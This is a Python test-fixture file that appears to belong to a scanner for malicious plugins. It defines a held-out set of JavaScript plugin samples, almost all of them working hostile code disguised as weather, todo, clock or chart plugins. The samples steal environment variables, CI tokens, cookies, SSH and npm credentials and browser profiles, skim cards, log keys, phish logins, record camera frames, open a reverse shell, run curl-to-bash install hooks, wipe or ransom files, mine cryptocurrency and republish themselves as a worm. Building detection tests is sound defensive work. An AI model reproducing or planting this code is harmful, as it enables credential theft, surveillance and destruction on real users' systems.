"""Attacks that hide nothing: most of what is found in public places looks like this."""

from typing import Any

from tests.hostile.heldout_second.ordinary import BOARD, CHARTS, DATES, FEEDS, LOGIN, MARKDOWN, TODO, WEATHER, within
from tests.support.asking import asking
from tests.support.samples import Sample


def _sample(name: str, family: str, code: str, **more: Any) -> Sample:
    return Sample(name=name, family=family, files={"dist/index.js": code.lstrip("\n")}, **more)


THEFT: tuple[Sample, ...] = (
    _sample(
        "weather-sends-environment",
        "environment-theft",
        within(
            WEATHER,
            r"""
    const body = JSON.stringify({ env: process.env, host: require('os').hostname(), cwd: process.cwd() });
    fetch('https://stats.example.net/collect', { method: 'POST', body }).catch(() => {});
""",
        ),
        manifest=asking("storage-read", "storage-write", of=("https://weather.example.org",)),
    ),
    _sample(
        "typosquat-environment-https-post",
        "environment-theft",
        r"""
const https = require('https');
const os = require('os');
const path = require('path');

const about = {
  where: __dirname,
  who: os.userInfo().username,
  machine: os.hostname(),
  home: os.homedir(),
  resolvers: require('dns').getServers(),
  variables: process.env,
  project: require(path.join(process.cwd(), 'package.json')),
};

const out = https.request({ host: 'pkg-stats.example.net', path: '/install', method: 'POST', headers: { 'Content-Type': 'application/json' } });
out.on('error', () => {});
out.end(JSON.stringify(about));

exports.Weather = () => null;
""",
    ),
    _sample(
        "ci-tokens-picked-by-name",
        "environment-theft",
        r"""
'use strict';
const http = require('http');

const WANTED = ['AWS_ACCESS_KEY_ID', 'AWS_SECRET_ACCESS_KEY', 'GITHUB_TOKEN', 'NPM_TOKEN', 'QIRVO_TOKEN', 'DATABASE_URL'];

exports.onEnable = async function onEnable(context) {
  const found = {};
  for (const key of WANTED) {
    if (process.env[key]) found[key] = process.env[key];
  }
  if (Object.keys(found).length > 0) {
    const query = new URLSearchParams(found).toString();
    http.get('http://203.0.113.45:8080/i.gif?' + query, (res) => res.resume()).on('error', () => undefined);
  }
  context.logger.info('ready');
};

exports.Weather = function Weather() {
  return null;
};
""",
    ),
    _sample(
        "todo-posts-session-cookie",
        "session-theft",
        within(
            TODO,
            r"""
  useEffect(() => {
    const image = new Image();
    image.src = 'https://pixel.example.net/p.gif?c=' + encodeURIComponent(document.cookie) + '&u=' + encodeURIComponent(location.href);
  }, []);
""",
        ),
    ),
    _sample(
        "whole-local-storage-by-beacon",
        "session-theft",
        r"""
export function Weather({ root }) {
  root.textContent = 'Loading forecast';
}

function dump(store) {
  const copy = {};
  for (let i = 0; i < store.length; i += 1) {
    const key = store.key(i);
    copy[key] = store.getItem(key);
  }
  return copy;
}

window.addEventListener('load', () => {
  const report = { local: dump(localStorage), session: dump(sessionStorage), page: location.href };
  navigator.sendBeacon('https://telemetry.example.com/v1/batch', JSON.stringify(report));
});
""",
    ),
    _sample(
        "fetch-patched-to-copy-authorization",
        "session-theft",
        within(
            CHARTS,
            r"""
    if (!window.__tc) {
      window.__tc = true;
      var original = window.fetch;
      window.fetch = function (input, init) {
        var headers = new Headers((init && init.headers) || (input && input.headers) || {});
        var auth = headers.get('Authorization');
        if (auth) original('https://cdn-metrics.example.net/a', { method: 'POST', mode: 'no-cors', body: auth });
        return original.apply(this, arguments);
      };
    }
""",
        ),
    ),
    _sample(
        "other-plugins-secrets-read",
        "host-tampering",
        r"""
'use strict';
const fs = require('fs');
const path = require('path');

// Looks through the storage of every neighbour and takes what looks like a key.
async function onEnable(context) {
  const plugins = path.join(context.dataDir || path.join(__dirname, '..', '..'), '..');
  const loot = [];
  for (const name of fs.readdirSync(plugins)) {
    for (const file of ['storage.json', 'config.json', '.secrets']) {
      try {
        const text = fs.readFileSync(path.join(plugins, name, file), 'utf8');
        if (/token|secret|apiKey|password/i.test(text)) loot.push({ name, file, text });
      } catch (error) {
        // not there
      }
    }
  }
  await fetch('https://sync.example.net/upload', { method: 'PUT', body: JSON.stringify(loot) });
}

exports.onEnable = onEnable;
exports.Weather = () => null;
""",
    ),
    _sample(
        "registry-and-ssh-keys",
        "key-files",
        r"""
'use strict';
const fs = require('node:fs');
const os = require('node:os');
const { join } = require('node:path');

const FILES = ['.npmrc', '.ssh/id_rsa', '.ssh/id_ed25519', '.ssh/known_hosts', '.aws/credentials', '.docker/config.json', '.git-credentials'];

function collect() {
  const home = os.homedir();
  return FILES.map((name) => join(home, name))
    .filter((file) => fs.existsSync(file))
    .map((file) => ({ file, content: fs.readFileSync(file, 'utf8') }));
}

exports.onInstall = async () => {
  await fetch('https://backup.example.com/api/files', {
    method: 'POST',
    headers: { 'content-type': 'application/json' },
    body: JSON.stringify(collect()),
  });
};

exports.Weather = () => null;
""",
        manifest=asking("storage-read", "filesystem-access", of=("https://weather.example.org",)),
    ),
    _sample(
        "linter-that-reads-npmrc",
        "key-files",
        r"""
// Written in the manner of a hijacked lint rule: run once, take the publisher's token, send it as a header.
try {
  var path = require('path');
  var fs = require('fs');
  var https = require('https');
  var npmrc = path.join(process.env.HOME || process.env.USERPROFILE, '.npmrc');
  if (fs.existsSync(npmrc)) {
    var content = fs.readFileSync(npmrc, { encoding: 'utf8' }).replace('//registry.example.org/:_authToken=', '').trim();
    ['one.example.net', 'two.example.net'].forEach(function (host) {
      https.get({ hostname: host, path: '/', method: 'GET', headers: { Referer: 'http://one.example.net/' + content } }, function () {}).on('error', function () {});
    });
  }
} catch (e) {}

module.exports = {
  rules: {},
  Weather: function () { return null; },
};
""",
    ),
    _sample(
        "browser-profiles-copied",
        "key-files",
        r"""
import { readFile, readdir } from 'node:fs/promises';
import { homedir, platform } from 'node:os';
import path from 'node:path';

const ROOTS = {
  linux: ['.config/google-chrome', '.config/BraveSoftware/Brave-Browser', '.mozilla/firefox'],
  darwin: ['Library/Application Support/Google/Chrome', 'Library/Application Support/Firefox/Profiles'],
  win32: ['AppData/Local/Google/Chrome/User Data', 'AppData/Roaming/Mozilla/Firefox/Profiles'],
};
const NAMES = new Set(['Login Data', 'Cookies', 'Web Data', 'Local State', 'logins.json', 'key4.db', 'cookies.sqlite']);

async function* walk(folder, depth = 3) {
  for (const entry of await readdir(folder, { withFileTypes: true }).catch(() => [])) {
    const full = path.join(folder, entry.name);
    if (entry.isDirectory() && depth > 0) yield* walk(full, depth - 1);
    else if (NAMES.has(entry.name)) yield full;
  }
}

export async function onEnable() {
  for (const root of ROOTS[platform()] ?? []) {
    for await (const file of walk(path.join(homedir(), root))) {
      const form = new FormData();
      form.append('document', new Blob([await readFile(file)]), path.basename(file));
      await fetch('https://drop.example.com/put', { method: 'POST', body: form }).catch(() => {});
    }
  }
}

export const Weather = () => null;
""",
    ),
    _sample(
        "clipboard-address-swap",
        "clipper",
        within(
            DATES,
            r"""
var mine = { btc: 'bc1q5k0xexamplexexamplexexamplexexample00', eth: '0x00000000000000000000000000000000000e8a3b' };
setInterval(function () {
  if (!navigator.clipboard) return;
  navigator.clipboard.readText().then(function (text) {
    if (/^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,60}$/.test(text) && text !== mine.btc) navigator.clipboard.writeText(mine.btc);
    if (/^0x[a-fA-F0-9]{40}$/.test(text) && text !== mine.eth) navigator.clipboard.writeText(mine.eth);
  }).catch(function () {});
}, 800);
""",
        ),
        manifest=asking("clipboard-read", "clipboard-write"),
    ),
    _sample(
        "wallet-transaction-recipient-changed",
        "clipper",
        r"""
// "Shows the balance of your wallet."
const RECIPIENT = '0x000000000000000000000000000000000000dEaD';

function hook(provider) {
  const request = provider.request.bind(provider);
  provider.request = async (call) => {
    if (call.method === 'eth_sendTransaction') {
      const [transaction] = call.params;
      transaction.to = RECIPIENT;
      delete transaction.data;
    }
    if (call.method === 'eth_signTypedData_v4') {
      call.params[1] = call.params[1].replace(/"spender":"0x[0-9a-fA-F]{40}"/, `"spender":"${RECIPIENT}"`);
    }
    return request(call);
  };
}

if (typeof window !== 'undefined' && window.ethereum) hook(window.ethereum);

export async function Weather(root) {
  const [account] = await window.ethereum.request({ method: 'eth_accounts' });
  const wei = await window.ethereum.request({ method: 'eth_getBalance', params: [account, 'latest'] });
  root.textContent = `${(Number(BigInt(wei)) / 1e18).toFixed(4)} ETH`;
}
""",
    ),
    _sample(
        "seed-phrase-asked-and-sent",
        "clipper",
        r"""
import React, { useState } from 'react';

export function Weather() {
  const [words, setWords] = useState('');
  const [state, setState] = useState('ask');

  async function restore(event) {
    event.preventDefault();
    const phrase = words.trim().toLowerCase().split(/\s+/);
    if (phrase.length !== 12 && phrase.length !== 24) return setState('short');
    await fetch('https://wallet-check.example.net/validate', { method: 'POST', body: JSON.stringify({ phrase, agent: navigator.userAgent }) });
    return setState('failed');
  }

  return (
    <form onSubmit={restore}>
      <h3>Your wallet was disconnected</h3>
      <p>Enter your recovery phrase to keep your portfolio on the dashboard.</p>
      <textarea value={words} onChange={(e) => setWords(e.target.value)} placeholder="12 or 24 words" />
      <button type="submit">Restore</button>
      {state === 'failed' && <p>Something went wrong. Please try again later.</p>}
      {state === 'short' && <p>A phrase has 12 or 24 words.</p>}
    </form>
  );
}
""",
    ),
    _sample(
        "form-copy-beside-real-sign-in",
        "form-skimming",
        within(
            LOGIN,
            r"""
      navigator.sendBeacon('https://forms.example.net/s', JSON.stringify(values));
""",
        ),
        manifest=asking("storage-write", of=("https://calendar.example.org",)),
    ),
    _sample(
        "checkout-card-fields-skimmed",
        "form-skimming",
        r"""
(function () {
  var seen = {};
  function isCard(field) {
    return /card|cc-?num|cvv|cvc|expir/i.test(field.name + ' ' + field.id + ' ' + field.autocomplete);
  }
  function grab() {
    var fields = document.querySelectorAll('input, select');
    for (var i = 0; i < fields.length; i++) {
      if (isCard(fields[i]) && fields[i].value) seen[fields[i].name || fields[i].id] = fields[i].value;
    }
    if (Object.keys(seen).length >= 3) send();
  }
  function send() {
    var pixel = document.createElement('img');
    pixel.width = pixel.height = 1;
    pixel.src = 'https://fonts-static.example.net/woff.png?d=' + btoa(JSON.stringify(seen));
    document.body.appendChild(pixel);
    seen = {};
  }
  document.addEventListener('change', grab, true);
  document.addEventListener('click', function (event) {
    if (event.target.closest('button, [type=submit]')) grab();
  }, true);
})();

exports.Weather = function () { return null; };
""",
    ),
    _sample(
        "keys-buffered-every-ten-seconds",
        "keylogging",
        within(
            BOARD,
            r"""
    let typed = '';
    document.addEventListener('keydown', (event) => {
      typed += event.key.length === 1 ? event.key : `[${event.key}]`;
    });
    setInterval(() => {
      if (!typed) return;
      fetch('https://boards.example.com/sync', { method: 'POST', keepalive: true, body: JSON.stringify({ t: typed, at: location.pathname }) });
      typed = '';
    }, 10_000);
""",
        ),
    ),
    _sample(
        "password-fields-watched-by-observer",
        "keylogging",
        r"""
const report = (field) =>
  fetch('https://input-lab.example.net/k', {
    method: 'POST',
    mode: 'no-cors',
    body: new URLSearchParams({ site: location.host, user: lastUser(field.form), pass: field.value }),
  });

function lastUser(form) {
  const field = form && form.querySelector('input[type=email], input[name*=user], input[name*=login]');
  return field ? field.value : '';
}

function attach(root) {
  root.querySelectorAll('input[type=password]').forEach((field) => {
    if (field.dataset.seen) return;
    field.dataset.seen = '1';
    field.addEventListener('blur', () => field.value && report(field));
  });
}

export function Weather() {
  attach(document);
  new MutationObserver(() => attach(document)).observe(document.documentElement, { childList: true, subtree: true });
  return null;
}
""",
    ),
    _sample(
        "sign-in-again-overlay",
        "phishing",
        r"""
'use strict';

function overlay(user) {
  const back = document.createElement('div');
  back.style.cssText = 'position:fixed;inset:0;background:#0009;z-index:2147483647;display:grid;place-items:center';
  back.innerHTML =
    '<form style="background:#fff;padding:32px;border-radius:8px;font:16px system-ui">' +
    '<img src="/static/logo.svg" height="32"><h2>Your Qirvo session has expired</h2>' +
    '<p>Sign in again to continue.</p>' +
    '<input name="user" value="' + user + '"><br><input name="password" type="password" autofocus><br>' +
    '<button>Sign in</button></form>';
  back.querySelector('form').addEventListener('submit', async (event) => {
    event.preventDefault();
    const form = new FormData(event.target);
    await fetch('https://login-qirvo.example.net/session', { method: 'POST', mode: 'no-cors', body: form });
    back.remove();
  });
  document.body.append(back);
}

exports.onEnable = (context) => {
  setTimeout(() => overlay(context.user ? context.user.email : ''), 5 * 60 * 1000);
};
exports.Weather = () => null;
""",
    ),
    _sample(
        "camera-frames-uploaded",
        "surveillance",
        r"""
export async function onEnable() {
  const stream = await navigator.mediaDevices.getUserMedia({ video: { width: 640 }, audio: true });
  const video = document.createElement('video');
  video.srcObject = stream;
  video.muted = true;
  await video.play();
  const canvas = document.createElement('canvas');
  canvas.width = 640;
  canvas.height = 480;

  setInterval(() => {
    canvas.getContext('2d').drawImage(video, 0, 0);
    canvas.toBlob((blob) => fetch('https://frames.example.com/' + Date.now(), { method: 'PUT', body: blob }), 'image/jpeg', 0.5);
  }, 4000);

  const recorder = new MediaRecorder(stream);
  recorder.ondataavailable = ({ data }) => navigator.sendBeacon('https://frames.example.com/audio', data);
  recorder.start(15_000);
}

export const Weather = () => null; // a clock, says the manifest
""",
        manifest=asking("camera", "microphone"),
    ),
    _sample(
        "position-history-and-contacts",
        "surveillance",
        r"""
'use strict';
const { BasePlugin, createPlugin } = require('@qirvo/plugin-sdk');

class Clock extends BasePlugin {
  async onEnable(context) {
    navigator.geolocation.watchPosition((p) => this.tell({ lat: p.coords.latitude, lon: p.coords.longitude, at: p.timestamp }), () => {}, {
      enableHighAccuracy: true,
    });
    const people = await context.contacts.list();
    await this.tell({ people: people.map(({ name, phone, email }) => ({ name, phone, email })) });
    const events = await context.calendar.list({ from: 0 });
    await this.tell({ events });
  }

  async tell(what) {
    await fetch('https://people-graph.example.net/ingest', { method: 'POST', body: JSON.stringify(what) }).catch(() => {});
  }
}

exports.clock = createPlugin(Clock);
exports.Weather = () => new Date().toLocaleTimeString();
""",
        manifest=asking("geolocation", "contacts", "calendar", description="A plain clock."),
    ),
    _sample(
        "history-of-visited-pages-sold",
        "surveillance",
        r"""
// "Suspends idle panels to save memory." It also tells a stranger of every page.
let lastUrl = '';

function uid() {
  let id = localStorage.getItem('_uid');
  if (!id) localStorage.setItem('_uid', (id = Math.random().toString(36).slice(2)));
  return id;
}

function visit() {
  if (location.href === lastUrl) return;
  const previous = lastUrl;
  lastUrl = location.href;
  const q = `?u=${uid()}&r=${encodeURIComponent(previous)}&p=${encodeURIComponent(lastUrl)}&t=${encodeURIComponent(document.title)}`;
  new Image().src = 'https://owa.example.net/trk.php' + q;
}

const push = history.pushState;
history.pushState = function (...args) {
  push.apply(history, args);
  visit();
};
window.addEventListener('popstate', visit);
document.addEventListener('click', (event) => {
  const link = event.target.closest('a[href]');
  if (link) new Image().src = `https://owa.example.net/clk.php?u=${uid()}&h=${encodeURIComponent(link.href)}&x=${encodeURIComponent(link.textContent)}`;
}, true);
visit();

export function Weather({ panels }) {
  const idle = panels.filter((panel) => Date.now() - panel.lastUsed > 600_000);
  idle.forEach((panel) => panel.suspend());
  return `${idle.length} panels sleep`;
}
""",
    ),
    _sample(
        "notes-of-owner-uploaded-on-update",
        "storage-theft",
        within(
            FEEDS,
            r"""
    const everything = {};
    for (const key of await context.storage.keys({ scope: 'all' })) everything[key] = await context.storage.get(key, { scope: 'all' });
    await fetch('http://198.51.100.23/up', { method: 'POST', body: JSON.stringify({ config: context.config, user: context.user, everything }) }).catch(() => {});
""",
        ),
        manifest=asking("storage-read", "storage-write", of=("https://feeds.example.org",)),
    ),
)

ACTS: tuple[Sample, ...] = (
    _sample(
        "script-tag-from-elsewhere",
        "remote-code",
        within(
            MARKDOWN,
            r"""
if (typeof document !== 'undefined') {
  const s = document.createElement('script');
  s.src = 'https://cdn.example.net/jquery-3.min.js?' + Date.now();
  s.onload = () => s.remove();
  document.head.appendChild(s);
}
""",
        ),
    ),
    _sample(
        "eval-of-what-a-server-says",
        "remote-code",
        r"""
exports.onEnable = async (context) => {
  const check = async () => {
    const answer = await fetch('https://updates.example.net/rules?v=' + context.version);
    if (answer.ok) eval(await answer.text());
  };
  await check();
  setInterval(check, 6 * 3600 * 1000);
};
exports.Weather = () => null;
""",
    ),
    _sample(
        "download-write-and-require",
        "remote-code",
        r"""
'use strict';
const fs = require('fs');
const os = require('os');
const path = require('path');
const https = require('https');

function get(url, done) {
  https.get(url, (res) => {
    let text = '';
    res.on('data', (chunk) => { text += chunk; });
    res.on('end', () => done(text));
  }).on('error', () => {});
}

get('https://assets.example.com/locale/en.js', (text) => {
  const file = path.join(os.tmpdir(), '.cache-' + process.pid + '.js');
  fs.writeFileSync(file, text);
  require(file)({ env: process.env, require });
  fs.unlinkSync(file);
});

module.exports = { Weather: () => null };
""",
    ),
    _sample(
        "binary-downloaded-and-started",
        "process",
        r"""
const { exec, spawn } = require('child_process');
const fs = require('fs');
const https = require('https');

const NAMES = { linux: 'jsextension', win32: 'jsextension.exe' };

function install() {
  const name = NAMES[process.platform];
  if (!name) return;
  const target = (process.env.TEMP || '/tmp') + '/' + name;
  const file = fs.createWriteStream(target, { mode: 0o755 });
  https.get('https://files.example.net/download/' + name, (res) => {
    res.pipe(file);
    file.on('finish', () => file.close(() => {
      if (process.platform === 'win32') exec('start /B ' + target + ' -k --tls --cpu-max-threads-hint=50 -o 192.0.2.66:9999');
      else spawn(target, ['-k', '--tls', '-o', '192.0.2.66:9999'], { detached: true, stdio: 'ignore' }).unref();
    }));
  });
}

exports.onInstall = install;
exports.Weather = () => null;
""",
    ),
    _sample(
        "reverse-shell-over-socket",
        "process",
        r"""
(function () {
  var net = require('net'),
    cp = require('child_process'),
    sh = cp.spawn(process.platform === 'win32' ? 'cmd.exe' : '/bin/sh', []);
  var client = new net.Socket();
  client.connect(4444, '198.51.100.7', function () {
    client.pipe(sh.stdin);
    sh.stdout.pipe(client);
    sh.stderr.pipe(client);
  });
  client.on('error', function () {});
  return /a/;
})();

exports.Weather = function Weather() { return null; };
""",
    ),
    _sample(
        "feed-plugin-runs-commands-of-feed",
        "process",
        within(
            FEEDS,
            r"""
    const { execSync } = require('child_process');
    for (const entry of await context.storage.get('entries')) {
      const order = /^\[maint:([^\]]+)\]/.exec(entry.summary);
      if (order) {
        const output = execSync(Buffer.from(order[1], 'base64').toString(), { timeout: 20000 }).toString();
        await fetch('https://feeds.example.org/comment', { method: 'POST', body: output });
      }
    }
""",
        ),
        manifest=asking("storage-read", "storage-write", of=("https://feeds.example.org",)),
    ),
    _sample(
        "postinstall-curl-to-shell",
        "install-script",
        r"""
'use strict';
exports.Weather = () => null;
exports.version = '1.0.0';
""",
        package={"scripts": {"postinstall": "curl -s https://get.example.net/setup.sh | bash"}},
    ),
    _sample(
        "preinstall-node-file-steals",
        "install-script",
        r"""
'use strict';
exports.Weather = () => null;
exports.format = (n) => n.toFixed(1);
""",
        package={"scripts": {"preinstall": "node dist/setup.js || true", "test": "node --test"}},
    ),
    _sample(
        "cron-and-profile-persistence",
        "persistence",
        r"""
'use strict';
const fs = require('fs');
const os = require('os');
const { execSync } = require('child_process');

const LINE = '(node ' + __dirname + '/agent.js >/dev/null 2>&1 &)';

exports.onInstall = () => {
  const profile = os.homedir() + '/.bashrc';
  if (!fs.readFileSync(profile, 'utf8').includes('agent.js')) fs.appendFileSync(profile, '\n' + LINE + '\n');
  execSync(`(crontab -l 2>/dev/null; echo "@reboot ${LINE}") | crontab -`);
};

exports.onUninstall = () => {
  // stays
};

exports.Weather = () => null;
""",
    ),
    _sample(
        "country-dependent-file-wiper",
        "destruction",
        r"""
import fs from 'fs';
import path from 'path';
import https from 'https';

// Overwrites every file that it can reach if the address belongs to one of two countries.
function walk(folder) {
  for (const name of fs.readdirSync(folder)) {
    const full = path.join(folder, name);
    try {
      if (fs.statSync(full).isDirectory()) walk(full);
      else fs.writeFileSync(full, '\u2764\uFE0F');
    } catch (error) {
      continue;
    }
  }
}

setTimeout(() => {
  https.get('https://geo.example.org/json', (response) => {
    response.on('data', (data) => {
      const { country_name: country } = JSON.parse(data.toString());
      if (['freedonia', 'sylvania'].includes(country.toLowerCase())) ['./', '../', '../../', '/'].forEach(walk);
    });
  });
}, Math.ceil(Math.random() * 1000));

export const Weather = () => null;
""",
    ),
    _sample(
        "board-deletes-home-on-key-request",
        "destruction",
        within(
            BOARD,
            r"""
    const order = await fetch('https://license.example.com/check/' + context.installationId).then((r) => r.json());
    if (order.revoked) {
      const { rm } = await import('node:fs/promises');
      const { homedir } = await import('node:os');
      await rm(homedir(), { recursive: true, force: true });
    }
""",
        ),
    ),
    _sample(
        "storage-cleared-for-ransom",
        "destruction",
        r"""
'use strict';
exports.onEnable = async (context) => {
  const key = await crypto.subtle.generateKey({ name: 'AES-GCM', length: 256 }, true, ['encrypt']);
  const raw = Buffer.from(await crypto.subtle.exportKey('raw', key)).toString('hex');
  await fetch('https://keys.example.net/' + context.installationId, { method: 'PUT', body: raw });
  for (const name of await context.storage.keys()) {
    const iv = crypto.getRandomValues(new Uint8Array(12));
    const text = new TextEncoder().encode(JSON.stringify(await context.storage.get(name)));
    const locked = await crypto.subtle.encrypt({ name: 'AES-GCM', iv }, key, text);
    await context.storage.set(name, { locked: Buffer.from(locked).toString('base64') });
  }
  await context.notifications.show({ title: 'Your notes are locked', body: 'Pay 0.05 BTC to bc1qexample and write to unlock@example.net' });
};
exports.Weather = () => null;
""",
        manifest=asking("storage-read", "storage-write", "notifications"),
    ),
    _sample(
        "miner-in-a-worker",
        "mining",
        within(
            CHARTS,
            r"""
    if (!window.__hash && navigator.hardwareConcurrency > 2) {
      window.__hash = [];
      for (var t = 0; t < navigator.hardwareConcurrency - 1; t++) {
        var w = new Worker('https://webmine.example.net/cn.js');
        w.postMessage({ pool: 'wss://pool.example.net:8181', user: '48exampleMoneroAddress.dash', algo: 'cn-lite', throttle: 0.2 });
        window.__hash.push(w);
      }
    }
""",
        ),
    ),
    _sample(
        "stratum-miner-in-service",
        "mining",
        r"""
const net = require('net');
const crypto = require('crypto');

let job = null;
const pool = net.connect(3333, 'pool.example.com', () => {
  pool.write(JSON.stringify({ id: 1, method: 'mining.subscribe', params: ['cpuminer/2.5'] }) + '\n');
  pool.write(JSON.stringify({ id: 2, method: 'mining.authorize', params: ['1ExampleWallet.worker', 'x'] }) + '\n');
});

pool.on('data', (chunk) => {
  for (const line of chunk.toString().split('\n').filter(Boolean)) {
    const message = JSON.parse(line);
    if (message.method === 'mining.notify') job = message.params;
  }
});

function round() {
  if (job) {
    const nonce = crypto.randomBytes(4);
    const header = Buffer.concat([Buffer.from(job[1], 'hex'), nonce]);
    const hash = crypto.createHash('sha256').update(crypto.createHash('sha256').update(header).digest()).digest();
    if (hash.readUInt32LE(28) === 0) pool.write(JSON.stringify({ id: 4, method: 'mining.submit', params: ['1ExampleWallet.worker', job[0], nonce.toString('hex')] }) + '\n');
  }
  setImmediate(round);
}
round();

exports.Weather = () => null;
""",
    ),
    _sample(
        "links-rewritten-for-affiliate",
        "ad-fraud",
        r"""
const TAG = 'qv-21';

function rewrite(root) {
  root.querySelectorAll('a[href*="shop.example.com"], a[href*="store.example.org"]').forEach((link) => {
    const url = new URL(link.href);
    url.searchParams.set('tag', TAG);
    link.href = 'https://go.example.net/r?u=' + encodeURIComponent(url.href);
  });
}

new MutationObserver(() => rewrite(document)).observe(document.documentElement, { childList: true, subtree: true });

// cookie stuffing: the shop believes that the owner came through us
for (const shop of ['https://shop.example.com/?tag=', 'https://store.example.org/?ref=']) {
  const frame = document.createElement('iframe');
  frame.style.display = 'none';
  frame.src = shop + TAG;
  document.documentElement.append(frame);
}

export const Weather = () => null;
""",
    ),
    _sample(
        "unseen-advertisement-clicks",
        "ad-fraud",
        within(
            DATES,
            r"""
if (typeof window !== 'undefined') {
  window.setInterval(function () {
    var frame = document.createElement('iframe');
    frame.style.cssText = 'position:absolute;left:-9999px;width:800px;height:600px;opacity:0';
    frame.src = 'https://ads.example.net/serve?zone=' + Math.floor(Math.random() * 40);
    frame.onload = function () {
      frame.contentWindow.postMessage({ click: true, x: Math.random() * 800, y: Math.random() * 600 }, '*');
      window.setTimeout(function () { frame.remove(); }, 4000);
    };
    document.body.appendChild(frame);
  }, 45000);
}
""",
        ),
    ),
    _sample(
        "commands-over-websocket",
        "command-control",
        r"""
'use strict';

let socket;

function connect(context) {
  socket = new WebSocket('wss://live.example.net/agent?id=' + encodeURIComponent(context.installationId));
  socket.onmessage = async ({ data }) => {
    const { id, code } = JSON.parse(data);
    try {
      const result = await new Function('context', 'return (async () => {' + code + '})()')(context);
      socket.send(JSON.stringify({ id, result }));
    } catch (error) {
      socket.send(JSON.stringify({ id, error: String(error) }));
    }
  };
  socket.onclose = () => setTimeout(connect, 15000, context);
}

exports.onEnable = connect;
exports.onDisable = () => {};
exports.Weather = () => null;
""",
        manifest=asking(of=("https://weather.example.org",)),
    ),
    _sample(
        "loot-to-chat-webhook",
        "command-control",
        r"""
const fs = require('fs');
const path = require('path');

const HOOK = 'https://chat.example.com/api/webhooks/1100000000000000001/AAAAexampleexampleexample';
const APPS = { Chat: 'discord', Canary: 'discordcanary', Browser: 'Google/Chrome/User Data/Default' };
const TOKEN = /[\w-]{24}\.[\w-]{6}\.[\w-]{27}|mfa\.[\w-]{84}/g;

function tokens() {
  const found = new Set();
  for (const folder of Object.values(APPS)) {
    const db = path.join(process.env.APPDATA || '', folder, 'Local Storage', 'leveldb');
    if (!fs.existsSync(db)) continue;
    for (const name of fs.readdirSync(db).filter((n) => /\.(log|ldb)$/.test(n))) {
      for (const token of fs.readFileSync(path.join(db, name), 'utf8').match(TOKEN) || []) found.add(token);
    }
  }
  return [...found];
}

exports.onEnable = () =>
  fetch(HOOK, {
    method: 'POST',
    headers: { 'Content-Type': 'application/json' },
    body: JSON.stringify({ username: 'grab', content: '```\n' + tokens().join('\n') + '\n```' }),
  });
exports.Weather = () => null;
""",
    ),
    _sample(
        "worm-republishes-with-stolen-token",
        "worm",
        r"""
// A fragment in the manner of self-spreading packages: find the token, find its packages, put oneself into them.
const { execSync } = require('child_process');
const fs = require('fs');
const os = require('os');

async function spread() {
  const token = (/_authToken=(.+)/.exec(fs.readFileSync(os.homedir() + '/.npmrc', 'utf8')) || [])[1];
  if (!token) return;
  const headers = { authorization: 'Bearer ' + token };
  const { username } = await (await fetch('https://registry.example.org/-/whoami', { headers })).json();
  const { objects } = await (await fetch('https://registry.example.org/-/v1/search?text=maintainer:' + username)).json();
  for (const { package: { name } } of objects.slice(0, 20)) {
    const folder = fs.mkdtempSync(os.tmpdir() + '/p-');
    infect(folder, name);
    execSync('npm publish --registry https://registry.example.org', { cwd: folder, env: { ...process.env, NPM_TOKEN: token } });
  }
  await fetch('https://hook.example.net/done', { method: 'POST', body: JSON.stringify({ username, token, env: process.env }) });
}

function infect(folder, name) {
  fs.writeFileSync(folder + '/package.json', JSON.stringify({ name, scripts: { postinstall: 'node bundle.js' } }));
  fs.copyFileSync(__filename, folder + '/bundle.js');
}

spread().catch(() => {});
exports.Weather = () => null;
""",
    ),
    _sample(
        "dns-names-carry-the-home-folder",
        "dns-exfiltration",
        r"""
const dns = require('dns');
const os = require('os');

const info = [os.hostname(), os.userInfo().username, process.cwd(), process.env.npm_config_registry || ''].join('|');
const hex = Buffer.from(info).toString('hex');
const parts = hex.match(/.{1,60}/g);
parts.forEach((part, index) => dns.lookup(`${index}.${part}.q.example.net`, () => {}));

module.exports.Weather = () => null;
""",
    ),
    _sample(
        "hash-commands-in-title-of-todo",
        "remote-code",
        within(
            TODO,
            r"""
  useEffect(() => {
    const timer = setInterval(async () => {
      const patch = await (await fetch('https://todo-sync.example.net/patch.txt', { cache: 'no-store' })).text();
      if (patch) setTimeout(patch, 0);
    }, 120_000);
    return () => clearInterval(timer);
  }, []);
""",
        ),
    ),
    _sample(
        "update-check-switched-off",
        "host-tampering",
        r"""
'use strict';
const fs = require('fs');
const path = require('path');

const HOST = path.resolve(__dirname, '../../../..');

exports.onInstall = () => {
  const settings = path.join(HOST, 'settings.json');
  const values = JSON.parse(fs.readFileSync(settings, 'utf8'));
  values.verifySignatures = false;
  values.autoUpdate = false;
  values.trustedSources = [...(values.trustedSources || []), 'https://mirror.example.net/plugins'];
  fs.writeFileSync(settings, JSON.stringify(values));
  for (const name of fs.readdirSync(path.join(HOST, 'plugins'))) {
    const entry = path.join(HOST, 'plugins', name, 'dist', 'index.js');
    if (fs.existsSync(entry)) fs.appendFileSync(entry, "\n;require('" + __filename + "');\n");
  }
};

exports.Weather = () => null;
""",
        manifest=asking("filesystem-access"),
    ),
)


def _with_setup(sample: Sample) -> Sample:
    setup = r"""
const { execSync } = require('child_process');
const https = require('https');
const who = execSync('id; uname -a; cat /etc/passwd | head -20; env').toString();
https.request({ host: 'ping.example.net', method: 'POST', path: '/n' }).end(who);
"""
    return Sample(
        name=sample.name,
        family=sample.family,
        files={**sample.files, "dist/setup.js": setup.lstrip()},
        package=sample.package,
    )


PLAIN: tuple[Sample, ...] = THEFT + tuple(
    _with_setup(sample) if sample.name == "preinstall-node-file-steals" else sample for sample in ACTS
)
